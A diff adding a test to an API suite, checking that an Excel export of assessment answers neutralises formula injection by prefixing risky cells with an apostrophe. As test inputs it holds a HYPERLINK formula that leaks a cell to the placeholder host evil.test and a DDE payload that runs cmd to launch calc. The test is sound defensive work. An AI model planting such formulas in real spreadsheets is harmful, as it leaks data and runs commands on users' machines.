@@ -564,6 +564,34 @@ describe('POST /api/assessment/responses/exportResponseToExcel', () => {
     expect(rows(wb.worksheets[2] as ExcelJS.Worksheet).at(-1)).toEqual(['Score', '- / 10']);
   });
 
+  it('writes what users typed as text, never as a formula: = + - @ tab and CR get an apostrophe (#17)', async () => {
+    const a = await createAssessment('Formula Audit');
+    const started = await t.post<ResponseReply>(`${R}/createResponseForContractor`, { assessmentId: a._id, contractor: { contractorId: ids.c1 } }, c1);
+    expect(started.status, started.body.message).toBe(200);
+    const r = started.body.data;
+    const link = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")';
+    const saved = await save(r, 1, [{ _id: qid(r, 1, 0), answer: { text: link } }, { _id: qid(r, 1, 1), answer: { text: '@SUM(1+1)' } }], c1);
+    expect(saved.status, saved.body.message).toBe(200);
+    expect((await save(r, 0, [{ _id: qid(r, 0, 0), answer: { yesNo: 'YES' } }, { _id: qid(r, 0, 1), answer: { yesNo: 'NO' } }], c1)).status).toBe(200);
+    const sent = await status(r, { status: 'SUBMITTED' }, c1);
+    expect(sent.status, sent.body.message).toBe(200);
+    const judged = await save(r, 1, [{ _id: qid(r, 1, 0), assessStatus: 'REJECTED', remarks: '-2+3+cmd|\' /C calc\'!A0' }], auditor1);
+    expect(judged.status, judged.body.message).toBe(200);
+
+    const res = await t.app.inject({ method: 'POST', url: `${R}/exportResponseToExcel`, payload: { responseId: r._id }, headers: { cookie: admin } });
+    expect(res.statusCode, res.body).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+    const sheet = wb.worksheets[2] as ExcelJS.Worksheet;
+    const answer = sheet.getRow(2).getCell(3);
+    expect(answer.type).toBe(ExcelJS.ValueType.String);
+    expect(answer.value).toBe(`'${link}`);
+    expect(sheet.getRow(3).getCell(3).value).toBe("'@SUM(1+1)");
+    expect(sheet.getRow(2).getCell(6).value).toBe("'-2+3+cmd|' /C calc'!A0");
+    // Our own cells are left as they are.
+    expect(sheet.getRow(4).values).toEqual([undefined, 'Score', '- / 10']);
+  });
+
   it('is for organisation users with canExportAssessmentData only (403), of their organisation (404)', async () => {
     const done = (await seeded())['Environmental Compliance Review / North Sea Scaffolding'];
     await expectRefused(`${R}/exportResponseToExcel`, { responseId: done?._id }, [auditor1, c1, employee]);
